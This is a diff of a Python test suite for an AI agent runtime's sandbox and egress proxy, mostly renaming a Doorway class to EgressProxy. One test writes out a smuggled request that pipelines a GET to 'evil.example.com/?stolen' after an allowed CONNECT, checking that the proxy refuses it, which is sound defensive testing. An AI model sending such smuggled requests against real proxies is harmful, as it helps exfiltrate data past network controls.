@@ -7,15 +7,15 @@ import threading
 from functools import partial
 
 import pytest
-from sheltered import BASH
+from support.sheltered import BASH
 
 from bridle import Runtime, ScriptedModel, Settings, call
+from bridle.assembly.turns import UserSetup
 from bridle.config.settings import SandboxSettings
 from bridle.core.inbox import TurnOptions
 from bridle.core.parts import Call
 from bridle.core.permission import Access
-from bridle.process.doorway import REFUSED, Asked, Doorway
-from bridle.tackroom import UsersOwn
+from bridle.process.egress_proxy import REFUSED, Asked, EgressProxy
 from bridle.tools.tool import Invocation
 
 FETCH = "python3 -c \"import urllib.request as u; print(u.urlopen('http://{}:{}/x').read().decode())\""
@@ -61,12 +61,12 @@ def run(shut_in, command, *granted, outside=(), hosts=False, private=True):
     """A call to which a person said yes as far as `granted` goes."""
     given = BASH.check({"command": command, "outside": list(outside)})
     invocation = Invocation("c", "s", shut_in.project, {}, 60.0, environment=shut_in.environment, hosts=hosts)
-    invocation.find_sandbox, invocation.bounds = partial(shut_in.shelter.sandbox, "s"), shut_in.shelter.bounds()
+    invocation.find_sandbox, invocation.bounds = partial(shut_in.commands.sandbox, "s"), shut_in.commands.bounds()
     invocation.permits = lambda access: access in granted or (private and access.permission == "private_network")
 
     async def work():
         output = await BASH.run(given, invocation)
-        await shut_in.shelter.close()
+        await shut_in.commands.close()
         return output
 
     return asyncio.run(work())
@@ -145,7 +145,7 @@ def test_an_always_to_a_host_holds_for_the_next_command(shut_in, port, tmp_path)
             tools=[BASH],
             directory=shut_in.project,
             environment=shut_in.environment,
-            user=UsersOwn(approvals=tmp_path / "approvals.json"),
+            user=UserSetup(approvals=tmp_path / "approvals.json"),
         ) as runtime:
             session = await runtime.create()
             options = TurnOptions(model="scripted", on_ask="pause")
@@ -182,15 +182,15 @@ def answer_to(head):
     """What the proxy answers to the bytes of a request."""
 
     async def work():
-        doorway = Doorway(lambda host: host == "pypi.example.com", lambda host: True, {})
+        egress_proxy = EgressProxy(lambda host: host == "pypi.example.com", lambda host: True, {})
         listener = socket.create_server(("127.0.0.1", 0))
-        doorway._server = server = await asyncio.start_server(doorway._come, sock=listener)
+        egress_proxy._server = server = await asyncio.start_server(egress_proxy._come, sock=listener)
         reader, writer = await asyncio.open_connection(*listener.getsockname())
         writer.write(head)
         answer = await asyncio.wait_for(reader.read(), 10)
         writer.close()
         server.close()
-        await doorway.close()
+        await egress_proxy.close()
         await asyncio.sleep(0.1)
         return answer
 
@@ -271,9 +271,9 @@ def test_behind_a_proxy_nothing_but_what_was_allowed_is_passed_on():
         upstream = await asyncio.start_server(proxy, "127.0.0.1", 0)
         port = upstream.sockets[0].getsockname()[1]
         environment = {"https_proxy": f"http://me:secret@127.0.0.1:{port}"}
-        doorway = Doorway(lambda host: host == "pypi.example.com", lambda host: True, environment)
+        egress_proxy = EgressProxy(lambda host: host == "pypi.example.com", lambda host: True, environment)
         listener = socket.create_server(("127.0.0.1", 0))
-        doorway._server = server = await asyncio.start_server(doorway._come, sock=listener)
+        egress_proxy._server = server = await asyncio.start_server(egress_proxy._come, sock=listener)
         reader, writer = await asyncio.open_connection(*listener.getsockname())
         writer.write(
             b"CONNECT pypi.example.com:443 HTTP/1.1\r\n\r\nGET http://evil.example.com/?stolen HTTP/1.1\r\n\r\n"
@@ -282,7 +282,7 @@ def test_behind_a_proxy_nothing_but_what_was_allowed_is_passed_on():
         writer.close()
         server.close()
         upstream.close()
-        await doorway.close()
+        await egress_proxy.close()
         await asyncio.sleep(0.1)
 
     asyncio.run(work())
